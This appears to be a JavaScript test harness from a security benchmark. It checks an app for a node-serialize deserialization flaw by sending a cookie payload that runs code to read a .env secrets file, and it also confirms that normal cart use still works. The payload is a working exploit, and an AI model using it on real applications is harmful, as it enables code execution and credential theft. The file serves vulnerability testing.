// Sends a cart that reads the settings while it is loaded.

import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { createRequire } from "node:module";

const FUNCTION = "_$$ND_FUNC$$_";
const require = createRequire(import.meta.url);

// What node-serialize does: JSON, in which a text with a mark in front is run as a function.
function unserialize(text) {
  const held = JSON.parse(text);
  for (const [key, value] of Object.entries(held)) {
    if (typeof value === "string" && value.startsWith(FUNCTION)) {
      held[key] = new Function("require", `return (${value.slice(FUNCTION.length)})`)(require);
    }
  }
  return held;
}

function cookieParser() {
  return (req, res, next) => {
    const pairs = (req.headers.cookie ?? "").split("; ").map((pair) => pair.split("="));
    req.cookies = Object.fromEntries(pairs.map(([name, value]) => [name, decodeURIComponent(value ?? "")]));
    next();
  };
}

export const standIns = { "node-serialize": { unserialize }, "cookie-parser": { default: cookieParser } };

export function prepare() {
  writeFileSync(".env", "DB_PASSWORD=correct-horse");
}

const cart = async (code, ask, value) =>
  (await ask(code.default, "/cart", { headers: { cookie: `cart=${encodeURIComponent(JSON.stringify(value))}` } })).text;

export async function attack(code, { ask }) {
  const exploit = `${FUNCTION}function () { return require("fs").readFileSync(".env", "utf8"); }()`;
  const text = await cart(code, ask, [exploit]);
  return text.includes("DB_PASSWORD") ? text : null;
}

export async function use(code, { ask }) {
  assert.equal(await cart(code, ask, ["lamp"]), '["lamp"]');
}
